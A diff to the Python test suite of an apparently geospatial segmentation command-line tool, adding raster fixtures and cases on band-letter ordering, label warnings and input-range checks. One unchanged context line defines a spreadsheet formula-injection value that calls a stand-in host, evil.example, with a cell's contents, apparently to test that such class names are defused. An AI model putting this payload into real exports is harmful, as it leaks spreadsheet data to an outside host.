@@ -167,6 +167,33 @@ def _label_01(w: dict[str, Any], d: Path) -> None:
         dst.write((values == 90).astype(values.dtype), 1)
 
 
+def _narrow_image(w: dict[str, Any], d: Path) -> None:
+    """The good scene with each band squeezed into a slice of 8 % of the training range, inside it (a scene of one
+    land cover: issue 40, item 14, "19..26 here, 20..107 in training")."""
+    import numpy as np
+    import rasterio
+
+    from engine.bundle.store import read_metadata
+    from engine.data.checks import _training_ranges
+
+    low, high = _training_ranges(read_metadata(w["bundle"]).data.vision_stats)
+    with rasterio.open(w["image"]) as src:
+        profile, values = src.profile, src.read().astype(np.float64)
+    lo, hi = values.min(axis=(1, 2), keepdims=True), values.max(axis=(1, 2), keepdims=True)
+    start, width = (low + 0.3 * (high - low))[:, None, None], (0.08 * (high - low))[:, None, None]
+    with rasterio.open(d / "narrow.tif", "w", **profile) as dst:
+        dst.write((start + (values - lo) / np.maximum(hi - lo, 1) * width).astype(profile["dtype"]))
+
+
+def _bgr_image(w: dict[str, Any], d: Path) -> None:
+    """The good scene with its bands described B, G, R, N (blue first, as many exports name them)."""
+    import rasterio
+
+    shutil.copyfile(w["image"], d / "bgrn.tif")
+    with rasterio.open(d / "bgrn.tif", "r+") as dst:
+        dst.descriptions = ("B", "G", "R", "N")
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'  # a class name a spreadsheet would run
 
 CASES: list[Case] = [
@@ -384,7 +411,9 @@ CASES: list[Case] = [
          lambda w, d: train(w, d, "--class-names", "background", "building", label=str(d / "label01.tif")),
          code=0, produces=("m.dsmodel",), setup=_label_01, absent=("label values outside",)),
     Case("labels_0_90_are_recognised_and_said", lambda w, d: train(w, d, quiet=False), code=0,
-         produces=("m.dsmodel",), warns=("label values are exactly 0 and 90", "90 is class 1")),
+         produces=("m.dsmodel",), warns=("label values are exactly 0 and 90", "90 is class 1",
+                                          "validation tiles (strips of the scenes held out of training)"),
+         absent=("held-out bands",)),  # issue 40, item 14: "bands" read as spectral bands
     # issue 40, item 13: a NaN learning rate was reported as a bad min_learning_rate
     Case("train_learning_rate_nan", lambda w, d: train(w, d, "--lr", "nan"), ("--lr", "nan"),
          absent=("min_learning_rate", "--min-lr")),
@@ -398,6 +427,11 @@ CASES: list[Case] = [
          lambda w, d: train(w, d, "--preview-tiles", "1", image=w["named_bands"], quiet=False), code=0,
          produces=("m.dsmodel", "m_predictions.png"),
          warns=("report preview: bands 2,3,4 as red, green, blue", "b04, b03, b02")),
+    # issue 40, item 14: bands named "B, G, R" were shown as red, green, blue in that order
+    Case("train_preview_reads_band_letters",
+         lambda w, d: train(w, d, "--preview-tiles", "1", image=str(d / "bgrn.tif"), quiet=False), code=0,
+         produces=("m.dsmodel", "m_predictions.png"), setup=_bgr_image,
+         warns=("report preview: bands 3,2,1 as red, green, blue (by band letters: r, g, b)",)),
     Case("cmx_with_coarse_aux_says_its_ratio", lambda w, d: train(w, d, "--model", "cmx", quiet=False), code=0,
          produces=("m.dsmodel",), warns=("aux ratio 8", "upsampled bilinearly", "--aux-ratio 1")),
     Case("info_of_a_model_without_aux", lambda w, d: ["info", w["plain_bundle"]], code=0, warns=("no aux input",),
@@ -418,6 +452,10 @@ CASES: list[Case] = [
          code=0, produces=("out.tif",), absent=("looks unlike", "warning")),
     Case("image_all_nodata_segments_to_nodata", lambda w, d: seg(w, d, image=w["all_nodata"]), code=0,
          produces=("out.tif",), warns=("all_nodata.tif", "all nodata")),
+    # issue 40, item 14: a narrow range inside the training range is the training data's kind, not a shift
+    Case("image_narrow_inside_the_training_range_says_nothing",
+         lambda w, d: seg(w, d, "--strict-inputs", image=str(d / "narrow.tif")), code=0, produces=("out.tif",),
+         setup=_narrow_image, absent=("looks unlike", "warning")),
     Case("image_float64", lambda w, d: seg(w, d, image=w["float64"]), code=0, produces=("out.tif",)),
     Case("image_int8", lambda w, d: seg(w, d, image=w["int8"]), code=0, produces=("out.tif",)),
     Case("aux_partly_overlapping_warns", lambda w, d: seg(w, d, aux=w["half_aux"]), code=0, produces=("out.tif",),
